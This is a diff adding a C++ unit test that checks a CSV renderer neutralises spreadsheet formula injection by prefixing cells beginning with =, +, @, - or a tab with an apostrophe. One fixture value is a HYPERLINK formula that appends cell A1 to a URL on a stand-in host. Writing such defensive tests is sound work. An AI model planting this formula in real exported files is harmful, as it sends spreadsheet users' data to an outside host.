@@ -301,3 +301,24 @@ TEST_CASE("a damaged publication payload is an internal error naming what is wro
 
   CHECK_FALSE(decode_publication("[1,2]"));
 }
+
+TEST_CASE("a text cell a spreadsheet would run as a formula is written as text after an apostrophe",
+          "[publication][csv]") {
+  auto p = two_entries();
+  p.entries.resize(1);
+  p.as_of.reset();
+  p.entries[0].cause = limit_cause::none;
+  p.entries[0].cause_element.clear();
+  p.entries[0].region = "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")";
+  p.entries[0].point = "+F-101";
+  p.entries[0].binding = "@SUM(A1:A9)";
+  p.entries[0].reason = "-2+3";
+  CHECK(render_csv(p) == "\xEF\xBB\xBF" + std::string(header) +
+                             "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\",\"'+F-101\",feeder,urban,-120.5,"
+                             "\"'@SUM(A1:A9)\",\"'-2+3\",2027-03,,none,,\r\n");
+  p.entries[0].region = "\tNorth";
+  CHECK(render_csv(p).find("\"'\tNorth\"") != std::string::npos);
+  p.entries[0].region = "North-East = 2";  // only a leading sign is a formula
+  CHECK(render_csv(p).find(",North-East = 2,") == std::string::npos);
+  CHECK(render_csv(p).find("\xEF\xBB\xBF" + std::string(header) + "North-East = 2,") == 0);
+}
